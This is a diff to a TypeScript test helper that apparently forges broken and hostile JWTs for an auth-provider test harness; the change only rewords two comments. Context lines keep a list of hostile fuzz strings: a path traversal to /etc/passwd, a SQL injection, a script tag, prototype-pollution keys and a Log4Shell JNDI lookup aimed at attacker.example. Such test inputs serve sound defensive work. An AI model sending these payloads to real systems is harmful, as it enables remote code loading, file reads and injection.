@@ -2,7 +2,7 @@ import type { NamedToken } from './auth-provider-harness.ts';
 import { EncodedPart, forge, hmac, rawPart } from './forge.ts';
 import type { HostileContext } from './hostile-tokens.ts';
 
-/** What only looks like a token, or does not even. */
+/** Texts that are similar to a token, and texts that are not. */
 export function brokenTokens({ claims, secret }: HostileContext): readonly NamedToken[] {
   const sign = hmac(secret);
   const token = forge({ alg: 'HS256', typ: 'JWT' }, claims, sign);
@@ -77,7 +77,7 @@ const texts = [
   ['__proto__', 'constructor', '../../etc/passwd', "' OR '1'='1", '%00', '<script>', '${jndi:ldap://attacker.example}'],
 ].flat();
 
-/** Decodes to the same bytes: the last letter of 32 bytes has two bits that nobody reads. */
+/** Decodes to the same bytes: two bits of the last character of 32 bytes are ignored. */
 function withBitsLeftOver(signature: string): string {
   const letters = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_';
   const last = letters.indexOf(signature.slice(-1));
